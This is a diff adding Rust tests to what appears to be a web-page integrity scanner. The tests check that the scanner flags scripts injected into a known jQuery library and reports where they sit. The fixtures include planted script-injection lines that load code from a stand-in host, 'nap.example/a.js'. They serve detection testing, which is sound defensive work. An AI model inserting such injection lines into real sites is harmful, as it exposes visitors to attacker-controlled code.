@@ -116,6 +116,10 @@ fn what_is_new_is_found_shown_approved_in_part_and_quiet_from_then_on() {
     assert!(found.iter().any(|(rule, _)| rule == "injected-link"), "{found:?}");
     let (diff, code) = portal.run(&["baseline", "diff", "tuan-giao"]);
     assert_eq!(code, Some(1));
+    // What was put into the library is shown, and where; not the library.
+    let put_in = "+ var s=document.createElement('script');s.src='hxxps://nap[.]example/a.js'";
+    assert!(diff.contains("1:42") && diff.contains(put_in), "{diff}");
+    assert!(!diff.contains("window.jQuery"), "{diff}");
     for part in ["doi-tac[.]example", "/jquery.js", "nap[.]example", "+   \"doi-tac[.]example\""] {
         assert!(diff.contains(part), "{part} is not in {diff}");
     }
@@ -169,6 +173,24 @@ fn a_look_that_nobody_remembers_knows_what_is_approved() {
     let (said, code) = portal.run(&["scan", &address, "-q"]);
     assert_eq!(code, Some(1), "{said}");
     assert!(said.contains("changed-script"), "{said}");
+}
+
+#[test]
+fn what_was_put_into_a_known_library_is_the_evidence() {
+    let portal = Portal::learned_and_approved();
+    let library = portal.library.lock().unwrap().clone();
+    let planted = "document.write('<script src=https://nap.example/a.js></'+'script>')";
+    *portal.library.lock().unwrap() = format!("{library}\n/* 3.7.1 */\n{planted}");
+    let (said, _) = portal.run(&["nightly", "--format", "json", "-q"]);
+    let report: Value = serde_json::from_str(&said).unwrap();
+    let found = report["portals"][0]["findings"].as_array().unwrap();
+    let changed = found.iter().find(|own| own["rule"] == "changed-script").unwrap();
+    let excerpt = changed["excerpt"].as_str().unwrap();
+    assert!(excerpt.starts_with("/jquery.js 2:1 + /* 3.7.1 */"), "{excerpt}");
+    assert!(excerpt.contains(planted), "{excerpt}");
+    // The look after, which learns nothing of it, shows the same.
+    let (again, _) = portal.run(&["nightly", "--format", "json", "-q"]);
+    assert!(again.contains("/jquery.js 2:1"), "{again}");
 }
 
 #[test]
